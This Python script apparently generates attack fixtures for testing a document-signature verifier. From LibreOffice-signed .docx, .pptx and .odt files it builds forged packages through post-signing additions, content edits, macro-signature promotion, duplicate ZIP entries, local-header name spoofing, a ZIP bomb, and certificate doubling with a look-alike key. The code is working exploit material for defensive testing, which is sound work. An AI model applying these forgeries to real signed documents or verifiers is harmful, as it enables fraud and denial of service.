"""Attack fixtures derived from the LibreOffice-signed packages (python3 zipfile).

Usage: attacks.py DIR LOOKALIKE_KEY LOOKALIKE_CERT
  (reads DIR/lo-signed.*, DIR/lo-macro-signed.odt; writes DIR/attack-*;
  the look-alike signer key and certificate are an attacker's, for the
  certificate-doubling attack)

Every attack repacks the signed file's entries as they are (same names, same
order, same bytes) and changes only what the attack needs, so the signature
parts stay exactly what LibreOffice wrote.
"""
import re
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib

D = sys.argv[1]


def entries(name):
    with zipfile.ZipFile(f"{D}/{name}") as z:
        return [(i.filename, z.read(i), i.compress_type) for i in z.infolist()]


def write(name, items):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one attack
        with zipfile.ZipFile(f"{D}/{name}", "w") as z:
            for n, data, ct in items:
                info = zipfile.ZipInfo(n, date_time=(2026, 1, 1, 0, 0, 0))
                info.compress_type = ct
                z.writestr(info, data)


def replace(items, name, fn):
    out, hit = [], False
    for n, d, ct in items:
        if n == name:
            d, hit = fn(d), True
        out.append((n, d, ct))
    if not hit:
        raise SystemExit(f"{name} not found")
    return out


def sub(old, new):
    def f(d):
        s = d.decode("utf-8")
        if old not in s:
            raise SystemExit(f"{old!r} not found")
        return s.replace(old, new, 1).encode("utf-8")
    return f


DEFL = zipfile.ZIP_DEFLATED
TEXT = "Kyso package fixture"
PNG = None
with zipfile.ZipFile(f"{D}/lo-signed.docx") as z:
    PNG = z.read("word/media/image1.png")

# --- OOXML -------------------------------------------------------------------
docx = entries("lo-signed.docx")

# A media part added after signing, with a relationship to it from the signed
# document's relationships part (LibreOffice signs that part through the
# Relationship transform, selecting its relationships by Id: a new Id is left
# out of the transform's output, so the signature still verifies).
e = replace(docx, "word/_rels/document.xml.rels", sub(
    "</Relationships>",
    '<Relationship Id="rIdKyso9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image9.png"/></Relationships>'))
e.append(("word/media/image9.png", PNG, DEFL))
write("attack-added-media.docx", e)

# The signed document.xml changed.
write("attack-modified.docx", replace(docx, "word/document.xml", sub(TEXT, "Kyso FORGED fixture")))

# A slide added after signing: its part, its relationships, an Override in
# [Content_Types].xml (never signed) and a relationship from the presentation.
pptx = entries("lo-signed.pptx")
names = [n for n, _, _ in pptx]
slide1 = dict((n, d) for n, d, _ in pptx)["ppt/slides/slide1.xml"]
slide1_rels = dict((n, d) for n, d, _ in pptx)["ppt/slides/_rels/slide1.xml.rels"]
e = replace(pptx, "ppt/_rels/presentation.xml.rels", sub(
    "</Relationships>",
    '<Relationship Id="rIdKyso9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide" Target="slides/slide9.xml"/></Relationships>'))
e = replace(e, "[Content_Types].xml", sub(
    "</Types>",
    '<Override PartName="/ppt/slides/slide9.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/></Types>'))
e.append(("ppt/slides/slide9.xml", slide1.replace(b"Kyso package fixture slide", b"Kyso FORGED slide"), DEFL))
e.append(("ppt/slides/_rels/slide9.xml.rels", slide1_rels, DEFL))
assert "ppt/slides/slide9.xml" not in names
write("attack-added-slide.pptx", e)

# --- ODF ---------------------------------------------------------------------
odt = entries("lo-signed.odt")

# A picture added after signing (the signed manifest is left alone).
write("attack-added-file.odt", odt + [("Pictures/kyso-added.png", PNG, zipfile.ZIP_STORED)])

# The signed content.xml changed.
write("attack-modified.odt", replace(odt, "content.xml", sub(TEXT, "Kyso FORGED fixture")))

# Signature upgrade (2022 ODF signature attacks): the macro signature, which
# covers the Basic/ files only, moved to META-INF/documentsignatures.xml to
# pass as the document's signature.
macro = entries("lo-macro-signed.odt")
write("attack-macro-as-document.odt", [
    ("META-INF/documentsignatures.xml" if n == "META-INF/macrosignatures.xml" else n, d, ct)
    for n, d, ct in macro])

# --- ZIP ---------------------------------------------------------------------
# Duplicate entry name: a second word/document.xml after the signed one (a
# reader that takes the last entry shows the forged text).
forged = sub(TEXT, "Kyso FORGED fixture")(dict((n, d) for n, d, _ in docx)["word/document.xml"])
write("attack-duplicate-entry.docx", docx + [("word/document.xml", forged, DEFL)])

# Local header vs central directory: a forged document.xml whose central
# directory record says word/media/image8.png (unreferenced, so a reader of
# the central directory never shows it) while its local header says
# word/document.xml, so a reader that walks the local headers (streaming
# extraction) meets word/document.xml twice and may keep the forged one.
write("attack-local-header-name.docx", docx + [("word/media/image8.png", forged, DEFL)])
path = f"{D}/attack-local-header-name.docx"
data = bytearray(open(path, "rb").read())
old_name, new_name = b"word/media/image8.png", b"word/document.xml"
i = data.rfind(b"PK\x03\x04", 0, data.find(b"PK\x01\x02"))
assert bytes(data[i + 30:i + 30 + len(old_name)]) == old_name
assert struct.unpack_from("<HH", data, i + 26) == (len(old_name), 0)
# Every offset kept: the local name is 4 bytes shorter, and those 4 bytes
# become an empty extra field record (id 0, size 0).
struct.pack_into("<HH", data, i + 26, len(new_name), len(old_name) - len(new_name))
data[i + 30:i + 30 + len(old_name)] = new_name + b"\0" * (len(old_name) - len(new_name))
open(path, "wb").write(bytes(data))

# ZIP bomb: 64 MiB of zeros deflate to ~64 KB (ratio ~1000:1), and one more
# entry whose headers declare 3 GiB (over every size limit) for 1 KiB of zeros.
BOMB = 64 << 20
DECLARED = 3 << 30
write("attack-zip-bomb.odt", odt + [
    ("Pictures/bomb.bin", bytes(BOMB), DEFL),
    ("Pictures/declared.bin", bytes(1024), DEFL),
])
path = f"{D}/attack-zip-bomb.odt"
data = bytearray(open(path, "rb").read())
name = b"Pictures/declared.bin"
# Patch the uncompressed size of that entry in its local header and its
# central directory record (ZIP32 fields; 3 GiB still fits in 32 bits).
count = 0
i = 0
while True:
    i = data.find(b"PK\x03\x04", i)
    if i < 0:
        break
    n = struct.unpack_from("<H", data, i + 26)[0]
    if bytes(data[i + 30:i + 30 + n]) == name:
        struct.pack_into("<I", data, i + 22, DECLARED)
        count += 1
    i += 4
i = 0
while True:
    i = data.find(b"PK\x01\x02", i)
    if i < 0:
        break
    n = struct.unpack_from("<H", data, i + 28)[0]
    if bytes(data[i + 46:i + 46 + n]) == name:
        struct.pack_into("<I", data, i + 24, DECLARED)
        count += 1
    i += 4
assert count == 2, count
open(path, "wb").write(bytes(data))
# --- Certificate doubling (2022 ODF signature attacks) -----------------------
# An attacker with a look-alike certificate (same subject, same issuer name and
# serial number as the genuine signer's, from a CA of their own) re-signs the
# document signature with their key (xmlsec1 over LibreOffice's own signature
# as the template: same references, same signed properties, which still name
# the genuine certificate) and puts their certificate in KeyInfo AFTER the
# genuine signer's X509Data, which stays first: a verifier that shows the first
# certificate but checks the signature with another would show the victim.
import os  # noqa: E402
import tempfile  # noqa: E402

key, cert_pem = os.path.abspath(sys.argv[2]), sys.argv[3]
cert_b64 = "".join(l for l in open(cert_pem).read().splitlines() if "-----" not in l)
text = dict((n, d) for n, d, _ in odt)["META-INF/documentsignatures.xml"].decode("utf-8")
xd = re.search(r'xmlns:xd="([^"]+)"', text).group(1)
template = re.sub(r"<KeyInfo>.*?</KeyInfo>", "", text, count=1, flags=re.S)
template = re.sub(r"(<SignatureValue[^>]*>)[^<]*(</SignatureValue>)", r"\1\2", template, count=1)
with tempfile.TemporaryDirectory() as pkg:
    for n, d, _ in odt:  # the package's files, for the references (relative URIs)
        if n.endswith("/"):
            continue
        os.makedirs(os.path.dirname(os.path.join(pkg, n)) or pkg, exist_ok=True)
        open(os.path.join(pkg, n), "wb").write(d)
    open(os.path.join(pkg, "template.xml"), "w").write(template)
    subprocess.run(["xmlsec1", "--sign", "--privkey-pem", key,
                    "--id-attr:Id", "http://www.w3.org/2000/09/xmldsig#:SignatureProperty",
                    "--id-attr:Id", f"{xd}:SignedProperties",
                    "--output", "signed.xml", "template.xml"],
                   cwd=pkg, check=True)
    signed = open(os.path.join(pkg, "signed.xml")).read()
value = re.search(r"<SignatureValue[^>]*>([^<]*)</SignatureValue>", signed).group(1)
text, n = re.subn(r"(<SignatureValue[^>]*>)[^<]*(</SignatureValue>)",
                  lambda m: m.group(1) + value + m.group(2), text)
assert n == 1
text = text.replace("</X509Data></KeyInfo>",
                    f"</X509Data><X509Data><X509Certificate>{cert_b64}</X509Certificate></X509Data></KeyInfo>", 1)
write("attack-certificate-doubling.odt",
      replace(odt, "META-INF/documentsignatures.xml", lambda _: text.encode("utf-8")))
print("attacks written")
